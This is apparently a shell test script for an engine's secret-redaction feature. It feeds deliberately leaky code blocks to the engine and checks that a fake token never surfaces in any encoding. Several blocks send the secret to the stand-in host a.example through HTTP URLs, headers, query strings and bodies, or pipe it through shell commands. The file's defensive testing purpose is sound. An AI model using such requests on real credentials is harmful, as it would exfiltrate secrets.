#!/bin/sh
# A known secret reaches no page, log, journal, message or terminal, in no form
# that the engine knows: plain, base64, hex, URL, JSON.
# shellcheck disable=SC2016 # the dollar is the command's, not ours
. tests/fault/lib.sh

plain='tok-5up3r/secret+value=42'

# The forms to look for. The base64 ones leave out the letters that depend on
# what stands before and behind the value.
forms() {
    printf '%s\n' "$plain" 5up3r/secret 'tok-5up3r\/secret+value=42' \
        'tok-5up3r%2Fsecret%2Bvalue%3D42' 'tok-5up3r%2fsecret%2bvalue%3d42'
    for pad in '' x xy; do
        printf '%s%s' "$pad" "$plain" | base64 -w 0 | cut -c 5-32
    done
    printf '%s' "$plain" | od -An -v -tx1 | tr -d ' \n'
    echo
    printf '%s' "$plain" | od -An -v -tx1 | tr -d ' \n' | tr a-f A-F
    echo
}
forms >"$work/forms"

# hidden: no form in any file of the repository but the world, nor in what the
# last call printed.
hidden() {
    ok
    hits=$(grep -rlaFf "$work/forms" --exclude-dir=world --exclude='*.secret' \
        . "$work/out" "$work/err")
    [ -z "$hits" ] || {
        bad "a secret is in: $hits"
        grep -rhaFof "$work/forms" --exclude-dir=world . "$work/out" |
            sort | uniq -c >&2
    }
}

# leak NAME CODE: the block on stdin has the secret `s` and tries to show it.
leak() {
    repo "$1"
    {
        echo 'local s = secret.get("API_TOKEN")'
        echo 'local half = { "tok-5up3r", "secret+value=42" }'
        echo 'local whole = table.concat(half, "/")'
        cat
    } | block a 'effect=remote retries=1' | page
    call "$2" run page.md --yes
    hidden
    proven
    call 0 verify --replay "$(bundle)"
    hidden
    call 0 render page.md -o page.html
    hidden
}

leak handle 0 <<'END'
print(s, tostring(s), ("%s"):format(tostring(s)))
evidence.text(tostring(s), tostring(s))
evidence.table { { a = tostring(s) } }
evidence.json { value = s }
check("x", true, tostring(s))
for _, f in ipairs {
  function() return s .. "" end, function() return "" .. s end,
  function() return #s end, function() return s.name end,
  function() return s[1] end, function() s.x = 1 end,
  function() return s == secret.template("{}", s) end,
  function() return s < s end, function() return s() end,
  function() return json.encode { s } end, function() error(s) end,
  function() return getmetatable(s).__index end,
  function() return string.rep(s, 2) end,
  function() return setmetatable(s, {}) end,
  function() fs.write("x", s) end, function() fs.write(s, "x") end,
  function() return http.get(s) end,
  function() return http.get { url = s } end,
} do print(pcall(f)) end
END
shows '<secret API_TOKEN>'

leak error-value 1 <<'END'
error(s)
END

# A command that has it shows it in every form.
leak command 0 <<'END'
local r = sh.run({ "sh", "-c", [[
  printf '%s\n' "$T"; printf '%s' "$T" | base64; printf 'x%s' "$T" | base64
  printf 'xy%s' "$T" | base64 -w 0; printf '%s' "$T" | od -An -v -tx1
  printf '%s' "$T" | od -An -v -tx1 | tr -d ' \n'
  printf '%s' "$T" | od -An -v -tx1 | tr -d ' \n' | tr a-f A-F
  printf '\nGET /?t=tok-5up3r%%2Fsecret%%2Bvalue%%3D42\n'
  printf '"tok-5up3r%s/secret+value=42"\n' '\'
  printf '%s' "$T" >&2]] }, { env = { T = s } })
print(r.stdout) print(r.stderr)
evidence.text(r.stdout, r.stderr)
evidence.table({ { r.stdout, r.stderr } }, { r.stdout, "b" })
evidence.json({ [r.stdout] = r.stderr })
evidence.link("http://a.example/?t=" .. r.stdout, r.stdout)
check(r.stderr, true, r.stderr)
print(#sh.run({ "cat" }, { stdin = s }).stdout > 0)
END
shows '\[redacted:API_TOKEN\]'

leak command-binary 0 <<'END'
local r = sh.run({ "sh", "-c", [[printf '\000%s\377' "$T"]] }, { env = { T = s } })
print((r.stdout:gsub("[^%w_.:]", ".")))
END
shows '^..redacted:API_TOKEN..$'

# The ends of what is cut are not halves of a secret.
leak command-fails 1 <<'END'
for n = 150, 240, 3 do
  pcall(sh.run, { "sh", "-c", [[printf '%0]] .. n ..
    [[d%s' 0 "$T" >&2; exit 3]] }, { env = { T = s } })
end
sh.run({ "sh", "-c", [[printf '%0190d%s' 0 "$T" >&2; exit 3]] },
  { env = { T = s } })
END

leak argument 1 <<'END'
print(pcall(sh.run, { "echo", s }))
sh.run({ s })
END

# Requests that carry it, to where nobody answers or what is not simulated.
leak request 0 <<'END'
for _, o in ipairs {
  { url = secret.template("http://a.example/{}", s) },
  { url = "http://a.example/", headers = { authorization = s } },
  { url = "http://a.example/", headers = { [tostring(s)] = "x" } },
  { url = "http://a.example/", query = { t = s } },
  { url = "http://a.example/", method = "POST", json = { t = { s } } },
  { url = "http://a.example/", method = "POST", body = s },
  { url = secret.template("nonsense {}", s) },
} do
  local fine, r = pcall(http.request, o)
  print(fine, fine and r.status, fine and r.body or r)
end
END

# A block that puts the value together itself cannot show it either.
leak assembled 0 <<'END'
print(whole)
print(whole:upper():lower())
evidence.text(whole, whole)
evidence.table({ { whole } }, { whole }, whole)
evidence.json({ [whole] = whole }, whole)
evidence.link("http://a.example/" .. whole, whole)
evidence.metric(whole, 1, whole)
check(whole, true, whole)
print((whole:gsub(".", function(c) return ("%02x"):format(c:byte()) end)))
END
shows '\[redacted:API_TOKEN\]|redacted:API'

leak assembled-error 1 <<'END'
error(whole)
END

leak assembled-fail 1 <<'END'
check("x", false, whole)
fail(("x"):rep(480) .. whole)
END

leak assembled-expect 1 <<'END'
expect({ a = whole }):equals { a = "x" }
END

# Nor can it send it in the open; the refusal is evidence.
leak assembled-argument 1 <<'END'
pcall(http.get, "http://a.example/?t=" .. whole)
pcall(fs.write, "copy.txt", whole)
pcall(sh.run, { "echo", whole })
pcall(fs.read, whole)
END
shows 'handle'

leak assembled-question 1 <<'END'
print(ask.input(whole .. "?", { id = "q", default = "x" .. whole }))
END

# Inputs.
repo parameter
{
    printf -- '---\ntitle: A page\nowner: ops\nparams:\n  pw: {type: string, secret: true}\n---\n\n'
    echo 'print(params.pw) print(sh.run({"cat"}, {stdin = params.pw}).stdout)' |
        block a
} >page.md
cp page.md page.md.orig
call 2 run page.md -p "pw=$plain"
says 'pw=@env:VAR or pw=@file'
hidden
untouched
printf '%s\n' "$plain" >pw.secret
call 0 run page.md -p pw=@pw.secret
hidden
proven
call 0 verify --replay "$(bundle)"
PW=$plain call 0 run page.md -p pw=@env:PW
hidden
call 2 run page.md -p pw=@nothere
says 'nothere'
printf 'short' >pw.secret
call 2 run page.md -p pw=@pw.secret
says 'too short|shorter'

# A page that holds one itself does not run.
repo in-the-page
printf 'print("%s")\n' "$plain" | block a | page
call 2 run page.md
says 'page.md:9: .*API_TOKEN'
untouched
ok
[ ! -e artifacts ] || bad 'a bundle was made'
printf 'Basic %s\n' "$(printf 'me:%s' "$plain" | base64 -w 0)" | page
echo 'print("x")' | block a >>page.md
cp page.md page.md.orig
call 2 run page.md
says 'page.md:8: .*API_TOKEN'
untouched

finish
